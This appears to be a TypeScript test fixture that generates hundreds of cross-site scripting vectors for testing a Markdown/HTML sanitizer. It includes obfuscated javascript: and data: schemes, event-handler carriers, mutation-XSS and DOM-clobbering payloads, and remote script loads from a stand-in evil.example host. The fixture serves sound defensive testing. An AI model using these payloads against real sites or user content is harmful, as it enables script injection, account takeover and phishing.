/**
 * Markdown and HTML that wants to run something, made of families times disguises: each family is a way in, each disguise a way to hide the
 * word that a filter looks for. Our own collection; `HIT` stands where the harm would begin.
 */
const HIT = "window.__hit=1";

/** Ways to write a scheme that browsers still read as one, or once did. */
const schemes: Record<string, string> = {
  plain: "javascript:",
  upper: "JAVASCRIPT:",
  mixed: "jAvAsCrIpT:",
  tab: "java\tscript:",
  tabEntity: "java&#9;script:",
  newLineEntity: "java&#10;script:",
  returnEntity: "java&#13;script:",
  namedTab: "java&Tab;script:",
  namedNewLine: "java&NewLine;script:",
  namedColon: "javascript&colon;",
  decimal: [..."javascript:"].map((c) => `&#${c.charCodeAt(0)};`).join(""),
  paddedDecimal: [..."javascript:"].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, "0")};`).join(""),
  hex: [..."javascript:"].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join(""),
  hexWithoutEnd: [..."javascript:"]
    .map((c) => `&#x${c.charCodeAt(0).toString(16)}`)
    .join(" ")
    .replaceAll(" ", ";"),
  leadingSpace: "  javascript:",
  leadingControl: "&#1;javascript:",
  leadingNul: "\0javascript:",
  leadingBom: "\ufeffjavascript:",
  percent: "javascript%3A",
  vbscript: "vbscript:",
  livescript: "livescript:",
  mocha: "mocha:",
  dataHtml: "data:text/html,<script>",
  dataBase64: "data:text/html;base64,PHNjcmlwdD4",
  dataSvg: "data:image/svg+xml,<svg onload=1>",
  dataUpper: "DaTa:TeXt/HtMl,<script>",
  blob: "blob:https://evil.example/1#",
  file: "file:///etc/passwd#",
  filesystem: "filesystem:https://evil.example/temporary/x#",
  viewSource: "view-source:javascript:",
  jar: "jar:https://evil.example!/x#",
  feed: "feed:javascript:",
};

/** Places where an address is taken for an action. `URL` is replaced. */
const places: Record<string, string> = {
  link: "[click](URL)",
  angledLink: "[click](<URL>)",
  titledLink: '[click](URL "title")',
  referenceLink: "[click][r]\n\n[r]: URL",
  autolink: "<URL>",
  picture: "![look](URL)",
  referencePicture: "![look][r]\n\n[r]: URL",
  pictureInLink: "[![look](URL)](URL)",
  anchor: '<a href="URL">x</a>',
  bareAnchor: "<a href=URL>x</a>",
  image: '<img src="URL">',
  imageSet: '<img srcset="URL 1x">',
  object: '<object data="URL"></object>',
  frame: '<iframe src="URL"></iframe>',
  embed: '<embed src="URL">',
  form: '<form action="URL"><button>x</button></form>',
  button: '<button formaction="URL">x</button>',
  input: '<input type="image" src="URL">',
  base: '<base href="URL">',
  meta: '<meta http-equiv="refresh" content="0;url=URL">',
  stylesheet: '<link rel="stylesheet" href="URL">',
  svgLink: '<svg><a xlink:href="URL"><text>x</text></a></svg>',
  svgUse: '<svg><use href="URL"></use></svg>',
  math: '<math><mi xlink:href="URL">x</mi></math>',
  video: '<video poster="URL" src="URL"></video>',
  background: '<table background="URL"><tr><td background="URL">x</td></tr></table>',
  style: "<p style=\"background:url('URL')\">x</p>",
  quoteCite: '<blockquote cite="URL">x</blockquote>',
  callout: "> [!NOTE] [t](URL)\n> [x](URL)",
  tab: ":::tabs\n@tab [t](URL)\n[x](URL)\n@tab b\n![y](URL)\n:::",
  tableCell: "| a |\n| --- |\n| [x](URL) |",
  heading: "## [x](URL)",
};

const handlers =
  "onerror onload onclick onfocus onmouseover onanimationstart ontransitionend ontoggle onbegin onpointerenter onwheel oncut onbeforeinput onscroll oncontentvisibilityautostatechange".split(
    " ",
  );
/** Elements that come with a handler of their own. */
const carriers: Record<string, (attribute: string) => string> = {
  image: (on) => `<img src=x ${on}>`,
  slashes: (on) => `<img/src=x/${on}>`,
  noSpace: (on) => `<img src="x"${on}>`,
  newLine: (on) => `<img\nsrc=x\n${on}\n>`,
  svg: (on) => `<svg ${on}><g ${on}></g></svg>`,
  details: (on) => `<details open ${on}><summary ${on}>x</summary></details>`,
  autofocus: (on) => `<input autofocus ${on}>`,
  bold: (on) => `<b ${on}>x</b>`,
  unknown: (on) => `<made-up ${on}>x</made-up>`,
  iframe: (on) => `<iframe ${on}></iframe>`,
  unclosed: (on) => `<img src=x ${on}`,
  inCode: (on) => `\`\`\`html title="<img src=x ${on}>"\n<img src=x ${on}>\n\`\`\``,
  codeLanguage: (on) => `\`\`\`"><img src=x ${on}>\nx\n\`\`\``,
  inCallout: (on) => `:::tip <img src=x ${on}>\n<b ${on}>x</b>\n:::`,
  inTab: (on) => `=== "<img src=x ${on}>"\n    <b ${on}>x</b>`,
  pictureWords: (on) => `![" ${on} x="](x.png)`,
  pictureTitle: (on) => `![x](x.png '" ${on} x="')`,
  linkTitle: (on) => `[x](https://a.example '" ${on} x="')`,
};
const spellings: Array<(name: string) => string> = [
  (name) => `${name}="${HIT}"`,
  (name) => `${name.toUpperCase()}=${HIT}`,
  (name) => `${name}='${HIT}'`,
  (name) => `${name}\t=\n"${HIT}"`,
  (name) => `${name}&#61;"${HIT}"`,
];

/** What parsers disagree about. */
const oddities = [
  `<script>${HIT}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script/x>${HIT}</script>`,
  `<script\n>${HIT}</script\n>`,
  `<<script>${HIT}//<</script>`,
  `<script>${HIT}`,
  `</script><script>${HIT}</script>`,
  `<!--><script>${HIT}</script>-->`,
  `<!-- --!><script>${HIT}</script>-->`,
  `<![CDATA[<script>${HIT}</script>]]>`,
  `<?xml version="1.0"?><script>${HIT}</script>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${HIT}</script>">]>&x;`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<style><img src="</style><img src=x onerror=${HIT}>"></style>`,
  `<textarea><img src="</textarea><img src=x onerror=${HIT}>"></textarea>`,
  `<title><img src="</title><img src=x onerror=${HIT}>"></title>`,
  `<xmp><img src="</xmp><img src=x onerror=${HIT}>"></xmp>`,
  `<template><script>${HIT}</script></template>`,
  `<plaintext><script>${HIT}</script>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HIT}&gt;">`,
  `<svg><style><img src="</style><img src=x onerror=${HIT}>">`,
  `<svg><foreignObject><script>${HIT}</script></foreignObject></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${HIT}></set></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<select><noembed></select><script x='a@b'a>${HIT}</script>`,
  `<a id=defaultView><a id=defaultView name=href href="cid:x"></a>`,
  `<img name=getElementById><form id=attributes><input name=attributes></form>`,
  `<p id="__proto__">x</p><p id="constructor">y</p>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<object type="text/x-scriptlet" data="https://evil.example"></object>`,
  `<applet code="x.class"></applet>`,
  `<isindex action=javascript:${HIT} type=image>`,
  `<frameset onload=${HIT}></frameset>`,
  `<body onload=${HIT} background="javascript:${HIT}">`,
  `<p style="width:expression(${HIT})">x</p>`,
  `<p style="-moz-binding:url(https://evil.example/x.xml#y)">x</p>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<p style="background:\\75 rl(javascript:${HIT})">x</p>`,
  `<p style="color:#fff;position:fixed;inset:0;z-index:99">cover</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<a href="//evil.example" ping="https://evil.example">x</a>`,
  `<a target="_blank" href="https://evil.example">x</a>`,
  `<area href="javascript:${HIT}"><map name=m><area href=javascript:${HIT}></map>`,
  `<keygen autofocus onfocus=${HIT}>`,
  `<dialog open oncancel=${HIT}>x</dialog>`,
  `<portal src="https://evil.example"></portal>`,
  `<slot onslotchange=${HIT}></slot>`,
  `<input type="hidden" oncontentvisibilityautostatechange=${HIT} style=content-visibility:auto>`,
  `<button popovertarget=x>a</button><b popover id=x onbeforetoggle=${HIT}>b</b>`,
  `https://www.youtube.com/watch?v="><img/src=x/onerror=${HIT}>`,
  `https://youtu.be/abcdefghijk"onload="${HIT}`,
  `https://www.youtube.com.evil.example/watch?v=abcdefghijk`,
  `https://evil.example/https://youtu.be/abcdefghijk`,
  `https://vimeo.com@evil.example/123456`,
  "https://player.vimeo.com.evil.example/video/123456",
  `${"<div>".repeat(3_000)}<script>${HIT}</script>`,
  `${"> ".repeat(500)}<img src=x onerror=${HIT}>`,
  `${"[".repeat(2_000)}x](javascript:${HIT})`,
];

export function hostileVectors(): Array<[name: string, markdown: string]> {
  const vectors: Array<[string, string]> = [];
  for (const [scheme, written] of Object.entries(schemes))
    for (const [place, markdown] of Object.entries(places))
      vectors.push([`${scheme} in ${place}`, markdown.replaceAll("URL", `${written}${HIT}`)]);
  for (const [n, handler] of handlers.entries())
    for (const [carrier, carry] of Object.entries(carriers)) {
      const spelling = (n + carrier.length) % spellings.length;
      vectors.push([`${handler} on ${carrier}, spelling ${spelling}`, carry(spellings[spelling]!(handler))]);
    }
  for (const [n, oddity] of oddities.entries()) vectors.push([`oddity ${n}`, oddity]);
  return vectors;
}
